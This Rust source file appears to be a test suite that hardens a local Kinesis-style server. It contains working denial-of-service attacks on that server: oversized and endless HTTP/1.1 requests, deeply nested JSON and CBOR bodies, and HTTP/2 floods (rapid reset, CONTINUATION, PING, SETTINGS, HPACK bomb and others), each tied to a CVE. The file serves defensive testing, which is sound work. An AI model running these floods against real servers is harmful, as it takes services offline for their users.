//! Attacks on the Kinesis port: HTTP/1.1 by hand, HTTP/2 frame by frame (RFC 9113).

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;

use crate::Scale;
use crate::server::Server;

const PATIENCE: Duration = Duration::from_secs(60);

/// A connection that speaks HTTP/1.1.
pub struct Http {
    pub stream: TcpStream,
}

pub fn connect(address: SocketAddr, patience: Duration) -> TcpStream {
    let stream = TcpStream::connect(address).expect("the port takes connections");
    stream.set_read_timeout(Some(patience)).expect("a limit can be set");
    stream.set_write_timeout(Some(patience)).expect("a limit can be set");
    stream.set_nodelay(true).expect("an option can be set");
    stream
}

pub fn head(operation: &str, content_type: &str, length: &str) -> String {
    format!(
        "POST / HTTP/1.1\r\nHost: kinesis\r\nX-Amz-Target: Kinesis_20131202.{operation}\r\n\
         Content-Type: {content_type}\r\nContent-Length: {length}\r\n\r\n"
    )
}

pub const JSON: &str = "application/x-amz-json-1.1";
const CBOR: &str = "application/x-amz-cbor-1.1";

impl Http {
    pub fn connect(address: SocketAddr, patience: Duration) -> Http {
        Http { stream: connect(address, patience) }
    }

    /// Asks; gives the status and the body.
    pub fn call(&mut self, operation: &str, body: &[u8]) -> Result<(u16, Vec<u8>), String> {
        self.ask(operation, JSON, body)
    }

    /// Where a stream's first shard begins.
    pub fn iterator(&mut self, stream: &str) -> String {
        let asked = format!(
            r#"{{"StreamName":"{stream}","ShardId":"shardId-000000000000","ShardIteratorType":"TRIM_HORIZON"}}"#
        );
        let (_, answer) = self.call("GetShardIterator", asked.as_bytes()).expect("an iterator");
        let answer: serde_json::Value = serde_json::from_slice(&answer).expect("JSON");
        answer["ShardIterator"].as_str().expect("an iterator").to_owned()
    }

    fn ask(&mut self, operation: &str, content_type: &str, body: &[u8]) -> Result<(u16, Vec<u8>), String> {
        let request = [head(operation, content_type, &body.len().to_string()).as_bytes(), body].concat();
        self.stream.write_all(&request).map_err(|error| format!("sending: {error}"))?;
        self.answer()
    }

    fn answer(&mut self) -> Result<(u16, Vec<u8>), String> {
        let failed = |error: std::io::Error| format!("waiting for an answer: {error}");
        let mut head = Vec::new();
        let mut byte = [0];
        while !head.ends_with(b"\r\n\r\n") {
            if self.stream.read(&mut byte).map_err(failed)? == 0 {
                return Err("closed before the answer".to_owned());
            }
            head.push(byte[0]);
        }
        let head = String::from_utf8_lossy(&head).to_ascii_lowercase();
        let status = head.split(' ').nth(1).and_then(|text| text.parse().ok()).ok_or("no status")?;
        let mut body = Vec::new();
        if let Some(length) = head.lines().find_map(|line| line.strip_prefix("content-length: ")) {
            body.resize(length.trim().parse().map_err(|_| "no length")?, 0);
            self.stream.read_exact(&mut body).map_err(failed)?;
        } else if head.contains("transfer-encoding: chunked") {
            loop {
                let mut line = Vec::new();
                while !line.ends_with(b"\r\n") {
                    self.stream.read_exact(&mut byte).map_err(failed)?;
                    line.push(byte[0]);
                }
                let text = String::from_utf8_lossy(&line);
                let size = usize::from_str_radix(text.trim(), 16).map_err(|_| "no chunk size")?;
                let mut chunk = vec![0; size + 2];
                self.stream.read_exact(&mut chunk).map_err(failed)?;
                if size == 0 {
                    break;
                }
                body.extend_from_slice(&chunk[..size]);
            }
        }
        Ok((status, body))
    }
}

/// Whether the other side closes, whatever it says before.
fn is_closed(stream: &mut TcpStream) -> bool {
    let mut rest = [0; 4096];
    loop {
        match stream.read(&mut rest) {
            Ok(0) => return true,
            Ok(_) => {}
            Err(error) => {
                return matches!(
                    error.kind(),
                    std::io::ErrorKind::ConnectionReset | std::io::ErrorKind::BrokenPipe
                );
            }
        }
    }
}

fn pause(scale: Scale) {
    std::thread::sleep(Duration::from_millis(scale.of(5000, 500) as u64));
}

pub fn giant_heads(server: &Server, scale: Scale) -> String {
    let mut client = connect(server.kinesis, PATIENCE);
    let mut giant = b"POST / HTTP/1.1\r\nHost: kinesis\r\nX-Giant: ".to_vec();
    giant.resize(1 << 20, b'x');
    // It is closed before it is whole.
    let _ = client.write_all(&giant);
    assert!(is_closed(&mut client), "a head of a MiB ends its connection");
    let count = scale.connections(5000, 500);
    giant.truncate(60_000);
    let clients: Vec<TcpStream> = (0..count)
        .map(|_| {
            let mut client = connect(server.kinesis, PATIENCE);
            client.set_nonblocking(true).expect("an option can be set");
            let _ = client.write(&giant);
            client
        })
        .collect();
    pause(scale);
    drop(clients);
    format!("{count} heads of 60 kB without an end")
}

pub fn lengths(server: &Server, scale: Scale) -> String {
    let mut refused = 0;
    for _ in 0..scale.of(200, 10) {
        for length in ["2147483647", "-1", "18446744073709551615", "99999999999999999999", "0x10", "17000000"]
        {
            let mut client = connect(server.kinesis, PATIENCE);
            let _ = client.write_all(head("PutRecord", JSON, length).as_bytes());
            assert!(is_closed(&mut client), "a body of {length} bytes ends its connection");
            refused += 1;
        }
    }
    // A body that never ends, in chunks.
    let count = scale.of(32, 4);
    let threads: Vec<_> = (0..count)
        .map(|_| {
            let address = server.kinesis;
            std::thread::spawn(move || {
                let mut client = connect(address, PATIENCE);
                let head =
                    head("PutRecord", JSON, "0").replace("Content-Length: 0", "Transfer-Encoding: chunked");
                let _ = client.write_all(head.as_bytes());
                let chunk = [b"10000\r\n".as_slice(), &[b' '; 65_536], b"\r\n"].concat();
                let mut sent = 0;
                while client.write_all(&chunk).is_ok() {
                    sent += 1;
                    assert!(sent < 10_000, "an endless body is cut off");
                }
            })
        })
        .collect();
    for thread in threads {
        thread.join().expect("an endless body is cut off");
    }
    format!("{refused} impossible body lengths, {count} bodies without an end")
}

pub fn deep_bodies(server: &Server, scale: Scale) -> String {
    let depth = scale.of(1_500_000, 200_000);
    let mut client = Http::connect(server.kinesis, PATIENCE);
    let deep =
        |open: &[u8]| [br#"{"StreamName":"honest","Records":"#.as_slice(), &open.repeat(depth)].concat();
    let mut count = 0;
    for body in [deep(b"["), deep(br#"{"a":"#), [b"{".as_slice(), &vec![b' '; depth]].concat()] {
        let (status, _) = client.call("PutRecords", &body).expect("an answer");
        assert_eq!(status, 400);
        count += 1;
    }
    // CBOR: lists within lists, with and without a length; tags on tags; a text that says it has 2^63 bytes.
    let cbor: [&[u8]; 4] =
        [&[0x9f], &[0x81], &[0xc1], &[0x7b, 0x7f, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff]];
    for open in cbor {
        let body = [&[0xa1, 0x67][..], b"Records", &open.repeat(depth)].concat();
        let (status, _) = client.ask("PutRecords", CBOR, &body).expect("an answer");
        assert_eq!(status, 400);
        count += 1;
    }
    // Lists of nothing: many elements for few bytes.
    let threads: Vec<_> = (0..scale.of(16, 4))
        .map(|_| {
            let address = server.kinesis;
            std::thread::spawn(move || {
                let mut client = Http::connect(address, PATIENCE);
                let list =
                    [br#"{"StreamName":"honest","Records":[{}"#.as_slice(), &b",{}".repeat(depth / 3), b"]}"]
                        .concat();
                let (status, _) = client.call("PutRecords", &list).expect("an answer");
                assert_eq!(status, 400);
            })
        })
        .collect();
    for thread in threads {
        thread.join().expect("an answer");
    }
    format!("{count} bodies nested {depth} deep, lists of {} nothings", depth / 3)
}

pub fn unread(server: &Server, scale: Scale) -> String {
    let mut client = Http::connect(server.kinesis, PATIENCE);
    let shards = scale.of(1000, 300);
    let create = format!(r#"{{"StreamName":"wide","ShardCount":{shards}}}"#);
    let (status, answer) = client.call("CreateStream", create.as_bytes()).expect("an answer");
    assert_eq!(status, 200, "{}", String::from_utf8_lossy(&answer));
    let body = br#"{"StreamName":"wide"}"#;
    let request = [head("ListShards", JSON, &body.len().to_string()).as_bytes(), body].concat().repeat(20);
    let count = scale.connections(500, 100);
    let clients: Vec<TcpStream> = (0..count)
        .map(|_| {
            let mut client = connect(server.kinesis, PATIENCE);
            client.write_all(&request).expect("requests are taken");
            client
        })
        .collect();
    pause(scale);
    drop(clients);
    format!("{count} clients list {shards} shards 20 times and read no answer")
}

pub fn connections(server: &Server, scale: Scale) -> String {
    let count = scale.connections(9_800, 1000);
    let mut clients: Vec<Http> = (0..count).map(|_| Http::connect(server.kinesis, PATIENCE)).collect();
    for client in &mut clients {
        let (status, _) = client.call("ListStreams", b"{}").expect("each is served");
        assert_eq!(status, 200);
    }
    std::thread::sleep(Duration::from_millis(500));
    format!("{count} connections, each asked something and stays")
}

/// Requests one behind the other, as small as they get.
pub fn tiny_requests(server: &Server, scale: Scale) -> String {
    let (connections, each) = (4, scale.of(25_000, 1000));
    let request = head("ListStreams", JSON, "2") + "{}";
    let many = request.repeat(100);
    let threads: Vec<_> = (0..connections)
        .map(|_| {
            let mut reader = Http::connect(server.kinesis, PATIENCE);
            let mut writer = reader.stream.try_clone().expect("a handle");
            let many = many.clone();
            let write = std::thread::spawn(move || {
                for _ in 0..each / 100 {
                    writer.write_all(many.as_bytes()).expect("the server reads on");
                }
            });
            std::thread::spawn(move || {
                for _ in 0..each {
                    let (status, _) = reader.answer().expect("every request is answered");
                    assert_eq!(status, 200);
                }
                write.join().expect("the writer does not panic");
            })
        })
        .collect();
    for thread in threads {
        thread.join().expect("every request is answered");
    }
    format!("{} requests of {} bytes, pipelined", connections * each, request.len())
}

// HTTP/2.

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut out = (payload.len() as u32).to_be_bytes()[1..].to_vec();
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// A header block of literals that are not indexed.
fn block(fields: &[(&str, &str)]) -> Vec<u8> {
    let mut out = Vec::new();
    for (name, value) in fields {
        out.push(0);
        for text in [name, value] {
            assert!(text.len() < 127);
            out.push(text.len() as u8);
            out.extend_from_slice(text.as_bytes());
        }
    }
    out
}

fn request_block(operation: &str) -> Vec<u8> {
    block(&[
        (":method", "POST"),
        (":path", "/"),
        (":scheme", "http"),
        (":authority", "kinesis"),
        ("content-type", JSON),
        ("x-amz-target", &format!("Kinesis_20131202.{operation}")),
    ])
}

/// A connection past its preface, with these settings.
fn http2(address: SocketAddr, settings: &[(u16, u32)]) -> TcpStream {
    let mut stream = connect(address, PATIENCE);
    let payload: Vec<u8> = settings
        .iter()
        .flat_map(|(id, value)| [&id.to_be_bytes()[..], &value.to_be_bytes()].concat())
        .collect();
    stream.write_all(PREFACE).expect("a preface is taken");
    stream.write_all(&frame(SETTINGS, 0, 0, &payload)).expect("settings are taken");
    stream
}

/// Sends the same again and again from some connections until the server ends them or it was enough; how many ended.
fn flood(
    server: &Server,
    scale: Scale,
    pieces: usize,
    piece: impl Fn(u32) -> Vec<u8> + Send + Copy + 'static,
) -> usize {
    let threads: Vec<_> = (0..scale.of(16, 4))
        .map(|_| {
            let address = server.kinesis;
            std::thread::spawn(move || {
                let mut stream = http2(address, &[]);
                // Answers are read along: who does not would only be slowed.
                let mut reader = stream.try_clone().expect("a handle");
                let drain = std::thread::spawn(move || {
                    let mut rest = [0; 65_536];
                    while matches!(reader.read(&mut rest), Ok(count) if count > 0) {}
                });
                let mut ended = false;
                for number in 0..pieces {
                    if stream.write_all(&piece(number as u32)).is_err() {
                        ended = true;
                        break;
                    }
                }
                let _ = stream.shutdown(std::net::Shutdown::Both);
                drain.join().expect("the reader does not panic");
                ended
            })
        })
        .collect();
    threads.into_iter().map(|thread| usize::from(thread.join().expect("a flood does not panic"))).sum()
}

pub fn rapid_reset(server: &Server, scale: Scale) -> String {
    let pieces = scale.of(100_000, 5_000);
    let ended = flood(server, scale, pieces, |number| {
        let stream = 2 * number + 1;
        let mut out = frame(HEADERS, END_HEADERS, stream, &request_block("ListStreams"));
        out.extend(frame(RST_STREAM, 0, stream, &8u32.to_be_bytes()));
        out
    });
    assert!(ended > 0, "who resets requests without end is cut off");
    format!("up to {pieces} requests reset at once (CVE-2023-44487); {ended} connections cut off")
}

pub fn continuation(server: &Server, scale: Scale) -> String {
    let pieces = scale.of(100_000, 5_000);
    let ended = flood(server, scale, pieces, |number| match number {
        0 => frame(HEADERS, 0, 1, &request_block("ListStreams")),
        _ => frame(CONTINUATION, 0, 1, &block(&[("x-more", "yyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyy")])),
    });
    assert!(ended > 0, "headers without end are cut off");
    format!("headers continued up to {pieces} times (CVE-2024-27316); {ended} connections cut off")
}

pub fn settings(server: &Server, scale: Scale) -> String {
    let pieces = scale.of(500_000, 20_000);
    let ended = flood(server, scale, pieces, |_| frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]));
    format!("{pieces} SETTINGS a connection (CVE-2019-9515); {ended} connections cut off")
}

pub fn ping(server: &Server, scale: Scale) -> String {
    let pieces = scale.of(500_000, 20_000);
    let ended = flood(server, scale, pieces, |_| frame(PING, 0, 0, b"12345678"));
    // And pings whose answers are not read: the answers wait in the server.
    let mut unread: Vec<TcpStream> = (0..scale.of(64, 8)).map(|_| http2(server.kinesis, &[])).collect();
    let many = frame(PING, 0, 0, b"12345678").repeat(1000);
    for stream in &mut unread {
        stream.set_write_timeout(Some(Duration::from_millis(200))).expect("a limit can be set");
        for _ in 0..scale.of(1000, 100) {
            if stream.write_all(&many).is_err() {
                break;
            }
        }
    }
    format!("{pieces} PINGs a connection (CVE-2019-9512), also without reading; {ended} connections cut off")
}

pub fn empty_data(server: &Server, scale: Scale) -> String {
    let pieces = scale.of(500_000, 20_000);
    let ended = flood(server, scale, pieces, |number| match number {
        0 => frame(HEADERS, END_HEADERS, 1, &request_block("PutRecord")),
        _ => frame(DATA, 0, 1, &[]),
    });
    format!("{pieces} empty DATA a connection (CVE-2019-9518); {ended} connections cut off")
}

pub fn window_stall(server: &Server, scale: Scale) -> String {
    let mut client = Http::connect(server.kinesis, PATIENCE);
    let create = format!(r#"{{"StreamName":"wide","ShardCount":{}}}"#, scale.of(1000, 300));
    client.call("CreateStream", create.as_bytes()).expect("an answer");
    let count = scale.connections(500, 50);
    let body = br#"{"StreamName":"wide"}"#;
    // No window for answers: they wait in the server.
    let streams: Vec<TcpStream> = (0..count)
        .map(|_| {
            let mut stream = http2(server.kinesis, &[(4, 0)]);
            stream.set_write_timeout(Some(Duration::from_millis(500))).expect("a limit can be set");
            for number in 0..100u32 {
                let id = 2 * number + 1;
                let mut out = frame(HEADERS, END_HEADERS, id, &request_block("ListShards"));
                out.extend(frame(DATA, END_STREAM, id, body));
                if stream.write_all(&out).is_err() {
                    break;
                }
            }
            stream
        })
        .collect();
    pause(scale);
    drop(streams);
    format!("{count} connections ask 100 times and grant no window (CVE-2019-9517)")
}

pub fn ahead(server: &Server, scale: Scale) -> String {
    let count = scale.connections(2000, 200);
    let streams: Vec<TcpStream> = (0..count)
        .map(|_| {
            let mut stream = http2(server.kinesis, &[]);
            stream.set_nonblocking(true).expect("an option can be set");
            let mut out = Vec::new();
            for number in 0..8u32 {
                let id = 2 * number + 1;
                out.extend(frame(HEADERS, END_HEADERS, id, &request_block("PutRecords")));
                for _ in 0..4 {
                    out.extend(frame(DATA, 0, id, &[b' '; 16_000]));
                }
            }
            let _ = stream.write(&out);
            stream
        })
        .collect();
    pause(scale);
    drop(streams);
    format!("{count} HTTP/2 connections send 8 bodies as far as they may, and no end")
}

/// One long header is remembered by the decoder, and then named again and again in a byte each.
pub fn hpack_bomb(server: &Server, scale: Scale) -> String {
    let (pieces, names) = (scale.of(10_000, 500), 10_000);
    let ended = flood(server, scale, pieces, move |number| {
        let stream = 2 * number + 1;
        let mut out = request_block("ListStreams");
        // A literal to be remembered, of 3000 bytes: its length in seven bits and two more bytes.
        out.extend_from_slice(&[0x40, 1, b'x', 0x7f, 0xb9, 0x16]);
        out.extend(std::iter::repeat_n(b'y', 3000));
        // Entry 62 is what was remembered last.
        out.extend(std::iter::repeat_n(0xbe, names));
        frame(HEADERS, END_HEADERS | END_STREAM, stream, &out)
    });
    assert!(ended > 0, "headers of 30 MB in 13 kB are not taken again and again");
    format!("up to {pieces} heads of 13 kB that unpack to 30 MB (CVE-2016-6581); {ended} connections cut off")
}

/// Answers are granted a byte at a time.
pub fn dribble(server: &Server, scale: Scale) -> String {
    let mut client = Http::connect(server.kinesis, PATIENCE);
    let create = format!(r#"{{"StreamName":"wide","ShardCount":{}}}"#, scale.of(1000, 300));
    client.call("CreateStream", create.as_bytes()).expect("an answer");
    let (count, grants) = (scale.connections(200, 20), scale.of(100, 10));
    let body = br#"{"StreamName":"wide"}"#;
    let mut streams: Vec<TcpStream> = (0..count)
        .map(|_| {
            let mut stream = http2(server.kinesis, &[(4, 0)]);
            stream.set_write_timeout(Some(Duration::from_millis(500))).expect("a limit can be set");
            for number in 0..16u32 {
                let id = 2 * number + 1;
                let mut out = frame(HEADERS, END_HEADERS, id, &request_block("ListShards"));
                out.extend(frame(DATA, END_STREAM, id, body));
                let _ = stream.write_all(&out);
            }
            stream
        })
        .collect();
    for _ in 0..grants {
        for stream in &mut streams {
            for number in 0..16u32 {
                let _ = stream.write_all(&frame(WINDOW_UPDATE, 0, 2 * number + 1, &1u32.to_be_bytes()));
            }
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    format!("{count} connections ask 16 times and grant a byte at a time, {grants} times (CVE-2019-9511)")
}

/// Streams that nobody opened are made to depend on each other, in ever new ways.
pub fn priority(server: &Server, scale: Scale) -> String {
    let pieces = scale.of(500_000, 20_000);
    let ended = flood(server, scale, pieces, |number| {
        let stream = 2 * (number % 1000) + 1;
        let on = 2 * (number.wrapping_mul(7919) % 1000) + 2001;
        frame(PRIORITY, 0, stream, &[&on.to_be_bytes()[..], &[number as u8]].concat())
    });
    format!("{pieces} PRIORITY a connection (CVE-2019-9513); {ended} connections cut off")
}

/// Requests that the server itself has to reset: the client breaks a rule in each.
pub fn reset_by_us(server: &Server, scale: Scale) -> String {
    let pieces = scale.of(100_000, 5_000);
    let ended = flood(server, scale, pieces, |number| {
        let stream = 2 * number + 1;
        let mut out = frame(HEADERS, END_HEADERS, stream, &request_block("ListStreams"));
        out.extend(frame(WINDOW_UPDATE, 0, stream, &0u32.to_be_bytes()));
        out
    });
    assert!(ended > 0, "who has requests reset without end is cut off");
    format!(
        "up to {pieces} requests that we must reset (CVE-2019-9514, CVE-2025-8671); {ended} connections cut off"
    )
}

pub fn windows(server: &Server, scale: Scale) -> String {
    let pieces = scale.of(500_000, 20_000);
    let ended = flood(server, scale, pieces, |number| match number {
        0..1000 => frame(WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes()),
        _ => frame(WINDOW_UPDATE, 0, 0, &1000u32.to_be_bytes()),
    });
    format!("{pieces} WINDOW_UPDATE a connection; {ended} connections cut off")
}

/// Heads of fields without a name or a value.
pub fn empty_headers(server: &Server, scale: Scale) -> String {
    let pieces = scale.of(20_000, 1000);
    let ended = flood(server, scale, pieces, |number| {
        let block = [request_block("ListStreams"), [0u8, 0, 0].repeat(2000)].concat();
        frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, &block)
    });
    format!("{pieces} heads of 2000 empty fields (CVE-2019-9516); {ended} connections cut off")
}
